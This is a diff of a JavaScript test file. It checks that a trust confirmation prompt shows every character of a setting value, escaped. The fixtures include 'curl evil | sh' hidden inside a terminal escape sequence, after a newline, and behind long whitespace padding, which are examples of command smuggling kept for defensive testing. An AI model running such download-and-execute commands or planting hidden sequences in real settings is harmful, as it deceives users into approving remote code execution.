@@ -19,7 +19,7 @@ test('each setting that needs trust has its own line with its value', () => {
   ).toMatch(/\/p\/x sets:\n {2}verify: .*\n[\s\S]*\[y\/N\] $/);
 });
 
-test.each([
+test.for([
   // Left out, a sequence would take along what stands inside of it.
   ['npm test \u001b]0;; curl evil | sh #\u0007', 'npm test \\u{1b}]0;; curl evil | sh #\\u{7}'],
   ['npm test # only\n curl evil | sh', 'npm test # only\\n curl evil | sh'],
@@ -28,7 +28,7 @@ test.each([
   [`a${' '.repeat(500)}; evil`, 'a ; evil'],
   ['\u2028\u2029\ud800', '\\u{2028}\\u{2029}\\u{d800}'],
   ['日本語 ä 😀', '日本語 ä 😀'],
-])('every character of a value is visible: %j', (value, shown) => {
+] as const)('every character of a value is visible: %j', ([value, shown]) => {
   expect(powerLines('/p', verify(value))).toBe(`/p sets:\n  verify: ${shown}\n`);
   expect(powerLines('/p', verify([value]))).toBe(`/p sets:\n  verify: ${shown}\n`);
 });
